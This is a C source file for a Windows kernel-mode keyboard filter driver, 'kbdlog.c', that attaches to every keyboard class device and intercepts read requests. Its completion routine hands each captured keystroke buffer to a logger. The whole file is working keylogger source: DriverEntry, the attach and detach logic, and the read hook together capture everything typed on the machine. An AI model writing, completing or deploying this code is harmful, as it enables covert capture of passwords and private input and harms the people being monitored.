/*
 * kbdlog.c - DriverEntry, attach/detach and the dispatch routines
 */
#include "kbdlog.h"

DRIVER_INITIALIZE DriverEntry;
DRIVER_UNLOAD KlUnload;
DRIVER_DISPATCH KlDispatchPass;
DRIVER_DISPATCH KlDispatchRead;
DRIVER_DISPATCH KlDispatchPower;
DRIVER_DISPATCH KlDispatchPnp;
IO_COMPLETION_ROUTINE KlReadComplete;

static PDEVICE_OBJECT g_Filters[KL_MAX_KEYBOARDS];
static ULONG g_FilterCount = 0;
static volatile LONG g_PendingReads = 0;

NTSTATUS KlDispatchPass(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKL_DEVICE_EXTENSION ext = (PKL_DEVICE_EXTENSION)DeviceObject->DeviceExtension;

    IoSkipCurrentIrpStackLocation(Irp);
    return IoCallDriver(ext->Lower, Irp);
}

NTSTATUS KlDispatchPower(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKL_DEVICE_EXTENSION ext = (PKL_DEVICE_EXTENSION)DeviceObject->DeviceExtension;

    IoSkipCurrentIrpStackLocation(Irp);
    return PoCallDriver(ext->Lower, Irp);
}

NTSTATUS KlDispatchPnp(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKL_DEVICE_EXTENSION ext = (PKL_DEVICE_EXTENSION)DeviceObject->DeviceExtension;
    PIO_STACK_LOCATION sp = IoGetCurrentIrpStackLocation(Irp);
    PDEVICE_OBJECT lower = ext->Lower;
    NTSTATUS status;

    if (sp->MinorFunction == IRP_MN_REMOVE_DEVICE) {
        /* keyboard unplugged, get off the stack */
        IoSkipCurrentIrpStackLocation(Irp);
        status = IoCallDriver(lower, Irp);

        g_Filters[ext->Index] = NULL;
        IoDetachDevice(lower);
        IoDeleteDevice(DeviceObject);
        return status;
    }

    IoSkipCurrentIrpStackLocation(Irp);
    return IoCallDriver(lower, Irp);
}

NTSTATUS KlReadComplete(PDEVICE_OBJECT DeviceObject, PIRP Irp, PVOID Context)
{
    PKEYBOARD_INPUT_DATA keys;
    ULONG count;

    UNREFERENCED_PARAMETER(DeviceObject);
    UNREFERENCED_PARAMETER(Context);

    if (NT_SUCCESS(Irp->IoStatus.Status)) {
        keys = (PKEYBOARD_INPUT_DATA)Irp->AssociatedIrp.SystemBuffer;
        count = (ULONG)(Irp->IoStatus.Information / sizeof(KEYBOARD_INPUT_DATA));
        if (keys != NULL && count != 0) {
            KlPushKeys(keys, count);
        }
    }

    if (Irp->PendingReturned) {
        IoMarkIrpPending(Irp);
    }

    InterlockedDecrement(&g_PendingReads);
    return STATUS_CONTINUE_COMPLETION;
}

NTSTATUS KlDispatchRead(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKL_DEVICE_EXTENSION ext = (PKL_DEVICE_EXTENSION)DeviceObject->DeviceExtension;
    NTSTATUS status;

    IoCopyCurrentIrpStackLocationToNext(Irp);

    /* the Ex version keeps us loaded until the completion routine returns */
    status = IoSetCompletionRoutineEx(DeviceObject, Irp, KlReadComplete, NULL, TRUE, TRUE, TRUE);
    if (!NT_SUCCESS(status)) {
        /* no memory for the ex routine, just don't log this one */
        IoSkipCurrentIrpStackLocation(Irp);
        return IoCallDriver(ext->Lower, Irp);
    }

    InterlockedIncrement(&g_PendingReads);
    return IoCallDriver(ext->Lower, Irp);
}

static NTSTATUS KlAttachKeyboard(PDRIVER_OBJECT DriverObject, ULONG Index, PDEVICE_OBJECT *Out)
{
    NTSTATUS status;
    WCHAR nameBuf[64];
    UNICODE_STRING name;
    PDEVICE_OBJECT filter = NULL;
    PKL_DEVICE_EXTENSION ext;

    *Out = NULL;

    status = RtlStringCchPrintfW(nameBuf, ARRAYSIZE(nameBuf), L"\\Device\\KeyboardClass%u", Index);
    if (!NT_SUCCESS(status)) {
        return status;
    }
    RtlInitUnicodeString(&name, nameBuf);

    status = IoCreateDevice(DriverObject,
                            sizeof(KL_DEVICE_EXTENSION),
                            NULL,
                            FILE_DEVICE_KEYBOARD,
                            0,
                            FALSE,
                            &filter);
    if (!NT_SUCCESS(status)) {
        return status;
    }

    ext = (PKL_DEVICE_EXTENSION)filter->DeviceExtension;
    RtlZeroMemory(ext, sizeof(*ext));
    ext->Self = filter;
    ext->Index = Index;

    filter->Flags |= DO_BUFFERED_IO | DO_POWER_PAGABLE;

    status = IoAttachDevice(filter, &name, &ext->Lower);
    if (!NT_SUCCESS(status)) {
        /* STATUS_OBJECT_NAME_NOT_FOUND = no more keyboards */
        IoDeleteDevice(filter);
        return status;
    }

    filter->Flags &= ~DO_DEVICE_INITIALIZING;
    *Out = filter;

    KL_PRINT("attached to %wZ\n", &name);
    return STATUS_SUCCESS;
}

static VOID KlDetachAll(VOID)
{
    ULONG i;
    LARGE_INTEGER interval;
    PKL_DEVICE_EXTENSION ext;

    for (i = 0; i < g_FilterCount; i++) {
        if (g_Filters[i] != NULL) {
            ext = (PKL_DEVICE_EXTENSION)g_Filters[i]->DeviceExtension;
            IoDetachDevice(ext->Lower);
        }
    }

    /* a read is always pending on the keyboard, press a key to finish unloading */
    interval.QuadPart = -10LL * 1000 * 100;     /* 100 ms */
    while (g_PendingReads > 0) {
        KeDelayExecutionThread(KernelMode, FALSE, &interval);
    }

    for (i = 0; i < g_FilterCount; i++) {
        if (g_Filters[i] != NULL) {
            IoDeleteDevice(g_Filters[i]);
            g_Filters[i] = NULL;
        }
    }
    g_FilterCount = 0;
}

VOID KlUnload(PDRIVER_OBJECT DriverObject)
{
    UNREFERENCED_PARAMETER(DriverObject);

    KL_PRINT("unloading\n");

    KlDetachAll();
    KlStopLogger();

    KL_PRINT("bye\n");
}

NTSTATUS DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    NTSTATUS status;
    ULONG i;

    UNREFERENCED_PARAMETER(RegistryPath);

    KL_PRINT("DriverEntry\n");

    KlInitLog();

    for (i = 0; i <= IRP_MJ_MAXIMUM_FUNCTION; i++) {
        DriverObject->MajorFunction[i] = KlDispatchPass;
    }
    DriverObject->MajorFunction[IRP_MJ_READ] = KlDispatchRead;
    DriverObject->MajorFunction[IRP_MJ_POWER] = KlDispatchPower;
    DriverObject->MajorFunction[IRP_MJ_PNP] = KlDispatchPnp;
    DriverObject->DriverUnload = KlUnload;

    for (i = 0; i < KL_MAX_KEYBOARDS; i++) {
        status = KlAttachKeyboard(DriverObject, i, &g_Filters[i]);
        if (status == STATUS_OBJECT_NAME_NOT_FOUND) {
            break;
        }
        if (!NT_SUCCESS(status)) {
            KL_PRINT("attach to keyboard %lu failed 0x%x\n", i, status);
            return status;
        }
        g_FilterCount++;
    }

    if (g_FilterCount == 0) {
        KL_PRINT("no keyboards?\n");
        return STATUS_NO_SUCH_DEVICE;
    }

    status = KlStartLogger();
    if (!NT_SUCCESS(status)) {
        KlDetachAll();
        return status;
    }

    KL_PRINT("watching %lu keyboard(s)\n", g_FilterCount);
    return STATUS_SUCCESS;
}
